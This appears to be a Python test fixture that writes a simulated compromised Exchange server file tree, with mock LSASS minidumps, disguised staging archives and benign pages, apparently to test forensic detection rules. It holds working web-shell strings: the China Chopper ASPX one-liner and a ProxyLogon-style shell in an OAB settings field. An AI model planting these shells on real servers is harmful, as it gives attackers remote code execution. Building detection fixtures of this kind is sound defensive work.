"""File-tree evidence of an Exchange server that the tests write themselves: web shells as the
public write-ups show them, benign pages, minidumps, staging archives. (Imported by test
modules; pytest puts ``tests/`` on the path.)

Formats and contents follow their public descriptions, not the rules under test:
- China Chopper's ASPX one-liner: FireEye, "Breaking Down the China Chopper Web Shell" (2013).
- The ProxyLogon (CVE-2021-27065) shell: the OAB virtual directory settings in the
  ``Format-List`` layout that ResetOABVirtualDirectory writes (as published responses of such
  shells show it), with the ExternalUrl value from helsecert/2021-march-exchange.
- MINIDUMP_HEADER / MINIDUMP_DIRECTORY / MINIDUMP_MODULE / MINIDUMP_STRING: Microsoft Learn,
  minidumpapiset.h.
- 7z, RAR 5 and PST signatures: the formats' published headers.
"""

from __future__ import annotations

import os
import struct
from datetime import UTC, datetime
from pathlib import Path

from builders import zip_bytes

EXCHANGE = "C/Program Files/Microsoft/Exchange Server/V15"
OWA_AUTH = f"{EXCHANGE}/FrontEnd/HttpProxy/owa/auth"
ASPNET_CLIENT = "C/inetpub/wwwroot/aspnet_client/system_web"

CHOPPER_ASPX = b'<%@ Page Language="Jscript"%><%eval(Request.Item["z1"],"unsafe");%>'

SHELL_URL = ('http://f/<script language="JScript" runat="server">function Page_Load()'
             '{eval(Request["klk123456"],"unsafe");}</script>')


def oab_settings(external_url: str, server: str = "EXCH01") -> bytes:
    """OAB virtual directory settings as Format-List writes them (CRLF, one property a line)."""
    properties = [
        ("Name", "OAB (Default Web Site)"), ("PollInterval", "480"), ("OfflineAddressBooks", ""),
        ("RequireSSL", "True"), ("BasicAuthentication", "False"), ("WindowsAuthentication", "True"),
        ("OAuthAuthentication", "False"), ("MetabasePath", f"IIS://{server}.corp.example/W3SVC/1/ROOT/OAB"),
        ("Path", "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\OAB"),
        ("ExtendedProtectionTokenChecking", "None"), ("AdminDisplayVersion", "Version 15.1 (Build 2106.2)"),
        ("Server", server), ("InternalUrl", f"https://{server.lower()}.corp.example/OAB"),
        ("InternalAuthenticationMethods", "WindowsIntegrated"), ("ExternalUrl", external_url),
        ("ExternalAuthenticationMethods", "WindowsIntegrated"), ("ExchangeVersion", "0.10 (14.0.100.0)"),
        ("Identity", f"{server}\\OAB (Default Web Site)"),
        ("ObjectClass", "top"), ("", "msExchVirtualDirectory"), ("", "msExchOABVirtualDirectory"),
        ("WhenChangedUTC", "3/4/2021 4:07:21 AM"), ("IsValid", "True"),
    ]
    lines = [f"{name:<32}: {value}" if name else f"{'':<34}{value}" for name, value in properties]
    return ("\r\n".join(lines) + "\r\n").encode("utf-8")


BENIGN_ASPX = b"""<%@ Page Language="C#" AutoEventWireup="true" %>
<script runat="server">
    protected void Page_Load(object sender, EventArgs e)
    {
        string name = Request.QueryString["name"] ?? "world";
        greeting.Text = Server.HtmlEncode("Hello, " + name);
    }
</script>
<html><body><form runat="server"><asp:Label id="greeting" runat="server" /></form></body></html>
"""


def minidump(modules: list[str]) -> bytes:
    """A minidump with a module list stream naming ``modules`` (full Windows paths)."""
    header_size, directory_size, module_size = 32, 12, 108
    module_list_rva = header_size + directory_size
    names_rva = module_list_rva + 4 + module_size * len(modules)
    names, entries, rva = b"", b"", names_rva
    for number, path in enumerate(modules):
        encoded = path.encode("utf-16-le")
        entries += struct.pack("<QIIII", 0x7FF800000000 + number * 0x100000, 0x80000, 0, 0x5F3E2A10, rva)
        entries += bytes(module_size - 24)  # version info, CodeView and misc records, reserved
        names += struct.pack("<I", len(encoded)) + encoded + b"\x00\x00"
        rva = names_rva + len(names)
    module_list = struct.pack("<I", len(modules)) + entries
    header = struct.pack("<IIIIIIQ", 0x504D444D, 0xA793, 1, header_size, 0, 0x60404A10, 0x2)
    directory = struct.pack("<III", 4, len(module_list), module_list_rva)  # ModuleListStream
    return header + directory + module_list + names + bytes(4096)  # memory contents follow in a real dump


LSASS_MODULES = [
    "C:\\Windows\\System32\\lsass.exe", "C:\\Windows\\SYSTEM32\\ntdll.dll", "C:\\Windows\\System32\\lsasrv.dll",
    "C:\\Windows\\System32\\msv1_0.dll", "C:\\Windows\\System32\\wdigest.dll", "C:\\Windows\\system32\\kerberos.DLL",
]
W3WP_MODULES = [
    "C:\\Windows\\System32\\inetsrv\\w3wp.exe", "C:\\Windows\\SYSTEM32\\ntdll.dll",
    "C:\\Windows\\System32\\KERNEL32.DLL", "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\clr.dll",
]

SEVEN_ZIP = b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", 0x8D9B4C2F) + bytes(20) + os.urandom(200)
RAR5 = b"Rar!\x1a\x07\x01\x00" + os.urandom(200)
PST = b"!BDN" + struct.pack("<I", 0x4E0F2A61) + b"SM" + struct.pack("<H", 23) + bytes(500)

#: When the attacker wrote the shells (the files' modification times).
WRITTEN = datetime(2021, 3, 3, 4, 17, 9, tzinfo=UTC)


def write(root: Path, relative: str, data: bytes, when: datetime = WRITTEN) -> Path:
    """Write ``data`` at ``root/relative`` with modification time ``when``."""
    path = root / relative
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    os.utime(path, (when.timestamp(), when.timestamp()))
    return path


def server_tree(root: Path) -> dict[str, Path]:
    """A copy of an Exchange server's files: shells, a dump and staged data among benign files."""
    benign = datetime(2020, 11, 12, 9, 0, tzinfo=UTC)
    return {
        "chopper": write(root, f"{ASPNET_CLIENT}/a8d3f1.aspx", CHOPPER_ASPX),
        "oab_shell": write(root, f"{OWA_AUTH}/RedirSuiteServerProxy.aspx", oab_settings(SHELL_URL)),
        "oab_shell_utf16": write(root, f"{OWA_AUTH}/OutlookEN.aspx",
                                 b"\xff\xfe" + oab_settings(SHELL_URL).decode().encode("utf-16-le")),
        "benign_aspx": write(root, f"{OWA_AUTH}/logon.aspx", BENIGN_ASPX, benign),
        "benign_oab": write(root, "C/Users/admin/oab-settings.txt",
                            oab_settings("https://mail.corp.example/OAB"), benign),
        "lsass_dump": write(root, "C/Windows/Temp/debug.bin", minidump(LSASS_MODULES)),
        "w3wp_dump": write(root, "C/Windows/Temp/w3wp.dmp", minidump(W3WP_MODULES), benign),
        "web_zip": write(root, f"{ASPNET_CLIENT}/out.zip", zip_bytes({"users.csv": b"alice,bob\n"})),
        "disguised_7z": write(root, f"{OWA_AUTH}/lgnbotl.gif", SEVEN_ZIP),
        "mail_rar": write(root, "C/ProgramData/VSPerfMon/ceo.pst.rar", RAR5),
        "pst_aspx": write(root, "C/inetpub/wwwroot/aspnet_client/mbx.aspx", PST),
        "program_zip": write(root, "C/ProgramData/Tools/update.zip", zip_bytes({"readme.txt": b"hi\n"}), benign),
    }
